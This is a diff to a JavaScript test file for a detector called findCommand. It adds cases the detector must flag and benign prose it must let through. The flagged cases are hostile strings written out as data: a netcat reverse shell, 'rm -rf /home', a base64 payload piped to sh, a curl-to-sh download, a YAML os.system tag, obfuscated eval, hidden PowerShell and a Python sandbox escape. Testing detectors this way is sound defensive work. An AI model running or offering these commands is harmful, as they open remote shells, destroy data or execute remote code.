@@ -15,6 +15,11 @@ describe('findCommand', () => {
     ['nc 192.0.2.1 4444 -e /bin/sh', 'a reverse shell'],
     ['$(whoami)', 'a shell command'],
     ['rm -rf /home', 'a shell command'],
+    ['echo ZWNobyBpbmVydA== | base64 -d | sh', 'an encoded command that is run'],
+    ['note: !!python/object/apply:os.system ["id"]', 'a tag that makes a YAML reader call'],
+    ["getattr(__builtins__, 'ev' + 'al')('1')", 'Python that reaches a name by its parts'],
+    ["ctypes.CDLL('/tmp/x.so')", 'Python that reaches a name by its parts'],
+    ['{"note": "\\u0063url http://192.0.2.1/a | sh"}', 'a download that is run'],
     ['powershell -nop -w hidden -enc SQBFAFgA', 'a Windows command'],
     ["<script>alert('x')</script>", 'a script of a web page'],
     ['().__class__.__mro__[1].__subclasses__()', 'Python that walks to builtins'],
@@ -30,6 +35,7 @@ describe('findCommand', () => {
     '{% for message in messages %}{{ message["content"] }}{% endfor %}',
     'echo "hello"; ls -la',
     'The reward (`R`) of the system',
+    'Paths such as C:\\\\users\\\\x41 and text with \\u00e9 are kept; getattr(model, name) is used.',
     'Apache-2.0',
   ])('takes %j for prose', (text) => expect(findCommand(text)).toBeUndefined());
 
